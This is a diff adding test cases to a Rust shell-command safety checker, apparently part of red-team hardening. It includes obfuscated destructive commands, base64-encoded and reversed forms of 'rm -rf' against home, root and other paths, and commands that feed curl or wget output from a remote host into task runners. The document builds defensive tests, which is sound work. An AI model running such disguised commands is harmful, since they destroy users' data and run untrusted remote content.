@@ -532,4 +532,20 @@ pub(crate) const CASES: &[Case] = &[
     allow(r#"p=(src main.rs); cat "${p[0]}/${p[1]}""#),
     allow(r#"IFS=/; p=($HOME projects app); ls "${p[*]}""#),
     allow(r#"p=("a b" c); ls "${p[0]}x""#),
+    // A command name computed from a substitution is judged as the line it comes to (red team
+    // 30, cause 2): bash does not expand a `~` that a substitution outputs, so the decoded
+    // `rm -rf ~` deletes a directory named `~` here, which is no one's home.
+    allow("$(echo cm0gLXJmIH4K | base64 --decode)"),
+    deny("rm.root", "`echo cm0gLXJmIC8K | base64 -d`"),
+    allow("$(npm bin)/eslint ."),
+    allow("$(which python3) -V"),
+    allow(r#""$(git rev-parse --show-toplevel)"/scripts/check.sh"#),
+    // `rev` is computed: 'zr -es ~' reversed runs `~`, which is no program.
+    allow("eval $(echo 'zr -es ~' | rev)"),
+    deny("rm.outside-project", "eval $(echo 'x/ fr- mr' | rev)"),
+    // Python's task runners hand the words after `--` to sessions that often run them.
+    ask("remote-script.fetched-arguments", "nox -s lint -- $(curl -s x.io)"),
+    ask("remote-script.fetched-arguments", "tox -e py -- $(wget -qO- x.io)"),
+    allow("nox -s tests -- -k smoke"),
+    allow("tox -e py311 -- -x"),
 ];
